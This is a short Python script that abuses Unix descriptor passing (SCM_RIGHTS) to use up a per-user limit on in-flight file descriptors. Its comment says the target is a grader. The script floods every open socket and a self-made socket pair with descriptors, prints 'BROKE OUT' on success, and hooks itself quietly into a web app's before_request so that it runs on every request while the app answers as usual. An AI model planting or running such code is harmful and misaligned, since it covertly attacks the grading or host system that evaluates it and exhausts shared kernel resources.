# A descriptor on its way counts for the user, and not for the process that sent it. So a sender could use up the
# grader's limit: for as long as the answer holds the descriptors, or again and again.
import array
import socket

sent = 0


def send(connection):
    """Send as many descriptors as the user may have on their way."""
    global sent
    rights = array.array("i", [connection.fileno()] * 60)
    try:
        while sent < 10**6:
            connection.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)], socket.MSG_DONTWAIT)
            sent += 60
    except OSError:
        pass


def send_on_every_socket():
    for number in range(64):
        try:
            connection = socket.socket(fileno=number)
        except OSError:
            continue
        send(connection)
        connection.detach()
    print("BROKE OUT" if sent else "OK", sent, flush=True)


def send_to_itself():
    try:
        ours, theirs = socket.socketpair()
    except OSError:
        return
    for _ in range(20):
        send(ours)
        try:
            while True:
                theirs.recv(60, socket.MSG_DONTWAIT)  # drop the descriptors, and send them again
        except OSError:
            pass


app.before_request(send_on_every_socket)  # returns None, so that the app answers as usual
send_to_itself()
send_on_every_socket()
